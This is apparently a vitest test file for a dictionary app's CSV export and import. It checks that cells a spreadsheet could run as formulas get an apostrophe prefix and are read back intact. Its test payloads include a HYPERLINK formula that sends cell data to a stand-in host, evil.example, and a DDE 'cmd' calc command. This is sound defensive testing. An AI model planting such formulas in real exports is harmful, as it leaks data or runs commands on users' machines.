// CSV injection: every CSV the server writes (the dictionary export, the last import's failures, the template: toCsv)
// puts an apostrophe before a cell a spreadsheet could run as a formula (= + - @, tab, carriage return) and
// quotes cells holding a separator; the import takes the apostrophe off again.
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nowIso } from '../../server/db';
import { failuresCsv, parseCsv, readImportFile, toCsv } from '../../server/domain/dictionaries/import';

import { call, CLIENT_HEADERS, form, register, startTestApp, type TestApp } from './helpers';

/** What a spreadsheet would take for a formula (or read one after). */
const FORMULA = /^[=+\-@\t\r]/;
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
/** The import trims a cell before it looks at it: only data stored otherwise starts like these. */
const HIDDEN = ['\t=1+1', '\r=1+1', '\t@SUM(A1)'];

let t: TestApp;
let token: string;
let uid: number;
beforeAll(async () => {
  t = await startTestApp();
  token = await register(t, '13522229911');
  uid = (await call(t.app, 'GET', '/user/user_info', undefined, token)).json.result.uid;
});
afterAll(async () => t.close());

const text = (data: Buffer) => data.toString('utf8').replace(/^\ufeff/, '');
const cells = (data: Buffer) => parseCsv(text(data)).flatMap((r) => r.cells);

async function download(url: string) {
  const headers = { ...CLIENT_HEADERS, authorization: `Bearer ${token}` };
  const res = await t.app.inject({ method: 'GET', url, headers });
  expect(res.statusCode, url).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  return res.rawPayload;
}

describe('toCsv', () => {
  it('prefixes an apostrophe to cells starting with = + - @, a tab or a carriage return', () => {
    const out = text(toCsv([[...PAYLOADS.slice(2), ...HIDDEN, '正常', 'a=b', 5, -1]]));
    expect(out).toBe(`'-2+3,'@SUM(A1:A9),"'\t=1+1","'\r=1+1","'\t@SUM(A1)",正常,a=b,5,'-1\r\n`);
  });

  it('quotes cells holding a comma, quote, semicolon, tab or line break', () => {
    expect(text(toCsv([['a;=1+1', 'b\t=2', 'c,d', 'e"f', 'g\nh']]))).toBe(`"a;=1+1","b\t=2","c,d","e""f","g\nh"\r\n`);
  });

  it('leaves no cell a spreadsheet would run, and reads back as written', async () => {
    const rows = [...PAYLOADS, ...HIDDEN, 'x;=1+1'].map((w) => [w, 4, '']);
    const csv = toCsv([['word', 'type', 'correct'], ...rows]);
    for (const cell of cells(csv)) expect(cell).not.toMatch(FORMULA);
    const back = await readImportFile({ filename: 'back.csv', data: csv });
    expect(back.map((r) => r.word)).toEqual([...PAYLOADS, ...HIDDEN, 'x;=1+1']);
  });

  it('guards the failures file too, whatever the stored rows hold', () => {
    const row = { type: '=1+1', correct: '-x', reason: '@缺少类型' };
    const rows = [...PAYLOADS, ...HIDDEN].map((word, i) => ({ ...row, line: i + 2, word }));
    const csv = failuresCsv(rows);
    for (const cell of cells(csv)) expect(cell).not.toMatch(FORMULA);
  });
});

describe('the CSV downloads', () => {
  it("the last import's failures: every formula cell guarded, also in rows the import never trimmed", async () => {
    const rows = [...PAYLOADS, 'x;=1+1'].map((w) => `"${w.replace(/"/g, '""')}",,`);
    const data = `word,type,correct\n${rows.join('\n')}\n`;
    const { payload, contentType } = form([{ name: 'file', filename: 'evil.csv', type: 'text/csv', data }]);
    const res = await t.app.inject({
      method: 'POST',
      url: '/dict/v1/upload_words',
      headers: { ...CLIENT_HEADERS, authorization: `Bearer ${token}`, 'content-type': contentType },
      payload,
    });
    expect(res.json().result.failed).toBe(5);
    const first = await download('/dict/down_words_failed_to_upload');
    const words = parseCsv(text(first))
      .slice(1)
      .map((r) => r.cells[0]);
    expect(words).toEqual([...PAYLOADS.map((w) => `'${w}`), 'x;=1+1']);
    expect(text(first)).toContain('"x;=1+1"');
    for (const cell of cells(first)) expect(cell).not.toMatch(FORMULA);

    // failures kept by an earlier version, with the cells untrimmed
    const kept = HIDDEN.map((word, i) => ({ line: i + 2, word, type: '\t=1', correct: '', reason: '缺少类型' }));
    type Failures = { dict_import_failures: { uid: number; filename: string; rows: string; created_at: string } };
    const failures = t.app.db as unknown as Kysely<Failures>;
    const stored = { rows: JSON.stringify(kept) };
    await failures.updateTable('dict_import_failures').set(stored).where('uid', '=', uid).execute();
    const second = await download('/dict/down_words_failed_to_upload');
    expect(
      parseCsv(text(second))
        .slice(1)
        .map((r) => r.cells[0]),
    ).toEqual(HIDDEN.map((w) => `'${w}`));
    for (const cell of cells(second)) expect(cell).not.toMatch(FORMULA);
  });

  it('the dictionary export: every formula cell guarded, and the import reads the words back', async () => {
    const add = async (entry: { word: string; type: number; correct?: string }) =>
      expect((await call(t.app, 'POST', '/dict/v1/add_one', entry, token)).status).toBe(200);
    for (const word of PAYLOADS) await add({ word, type: 4 });
    await add({ word: 'x;=1+1', type: 5, correct: '=1+1' });
    const now = nowIso();
    await t.app.db
      .insertInto('dict_words')
      .values(HIDDEN.map((word) => ({ uid, word, type: 9, correct: null, created_at: now, updated_at: now })))
      .execute();
    const csv = await download('/dict/v1/export_words?format=csv');
    for (const cell of cells(csv)) expect(cell).not.toMatch(FORMULA);
    const words = parseCsv(text(csv))
      .slice(1)
      .map((r) => r.cells);
    expect(words).toEqual([
      ...PAYLOADS.map((w) => [`'${w}`, '4', '']),
      ['x;=1+1', '5', "'=1+1"],
      ...HIDDEN.map((w) => [`'${w}`, '9', '']),
    ]);
    const back = await readImportFile({ filename: 'export.csv', data: csv });
    const entries = back.slice(0, PAYLOADS.length + 1).map((r) => [r.word, r.correct]);
    expect(entries).toEqual([...PAYLOADS.map((w) => [w, '']), ['x;=1+1', '=1+1']]);
  });
});
